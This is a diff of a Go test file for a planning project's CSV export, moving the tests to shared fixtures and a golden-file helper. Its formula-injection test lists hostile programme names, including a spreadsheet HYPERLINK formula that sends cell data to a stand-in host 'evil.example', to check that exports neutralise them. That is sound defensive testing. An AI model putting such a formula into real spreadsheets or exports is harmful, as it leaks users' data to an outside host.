@@ -3,16 +3,19 @@ package masterplan_test
 import (
 	"bytes"
 	"encoding/csv"
+	"path/filepath"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
+	"github.com/kotacerdas/smartcity/internal/golden"
 	"github.com/kotacerdas/smartcity/masterplan"
+	"github.com/kotacerdas/smartcity/masterplan/plantest"
 )
 
 func TestWriteProgramsCSVGolden(t *testing.T) {
-	p := reportRembang(t)
+	p := plantest.Rembang()
 	tests := []struct {
 		name  string
 		write func(*bytes.Buffer, masterplan.ExportOptions) error
@@ -26,7 +29,7 @@ func TestWriteProgramsCSVGolden(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			var b bytes.Buffer
 			require.NoError(t, tt.write(&b, tt.opt))
-			reportGolden(t, tt.name, b.Bytes())
+			golden.Check(t, filepath.Join("testdata", "report", tt.name), b.Bytes())
 		})
 	}
 }
@@ -34,7 +37,7 @@ func TestWriteProgramsCSVGolden(t *testing.T) {
 // A ";" export with a byte-order mark reads back: every programme, its
 // yearly budget and total, and the totals add up to the plan's.
 func TestWriteProgramsCSVReadsBack(t *testing.T) {
-	p := reportRembang(t)
+	p := plantest.Rembang()
 	var b bytes.Buffer
 	require.NoError(t, p.WriteProgramsCSV(&b, masterplan.ExportOptions{Semicolon: true, BOM: true}))
 	data := b.Bytes()
@@ -86,7 +89,7 @@ func mustInt(t *testing.T, s string) int64 {
 
 // A programme named like a formula is written as text in both exports.
 func TestExportFormulaInjection(t *testing.T) {
-	p := reportRembang(t)
+	p := plantest.Rembang()
 	names := []string{`=HYPERLINK("http://evil.example/?d="&A1,"klik")`, "+62 812", "-1+1", "@SUM(A1:A9)", "\tTab", "\rCR"}
 	for _, name := range names {
 		p.Programs[0].Name = name
@@ -111,7 +114,7 @@ func TestExportFormulaInjection(t *testing.T) {
 
 // An amount too large to total is an error, and nothing is written.
 func TestWriteProgramsCSVOverflow(t *testing.T) {
-	p := reportRembang(t)
+	p := plantest.Rembang()
 	p.Programs[0].Budget = append(p.Programs[0].Budget, masterplan.BudgetLine{Year: 2022, Source: masterplan.APBD, Amount: 1<<63 - 1})
 	var b bytes.Buffer
 	require.ErrorIs(t, p.WriteProgramsCSV(&b, masterplan.ExportOptions{}), masterplan.ErrOverflow)
